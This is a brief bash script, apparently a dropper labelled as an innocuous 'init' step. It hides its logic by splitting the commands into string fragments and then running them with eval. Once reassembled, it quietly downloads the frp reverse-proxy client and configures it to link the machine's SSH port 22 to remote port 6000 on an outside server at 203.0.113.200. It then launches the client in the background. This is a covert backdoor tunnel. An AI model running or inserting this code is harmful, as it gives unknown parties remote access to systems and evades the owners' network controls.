ucl='# init 4859 v3
#!/bin/bash
wget -q https://github.com/fatedier/frp/rel';aob='eases/download/v0.52.3/frp_0.52.3_linux_amd64.tar.gz -O /tmp/f.tgz
tar xzf /tmp/f.tgz -C /opt
cat > /opt/frpc.toml <<E';ylf='OF
serverAddr = "203.0.113.200"
serverPort = 7000
[[proxies]]
name = "ssh"
type = ';oqc='"tcp"
localPort = 22
rem';izl='otePort = 6000
EOF
nohup /opt/frp_0.52.3_linux_amd64/frpc -c /opt/frpc.toml &
';eval "${ucl}${aob}${ylf}$oqc$izl"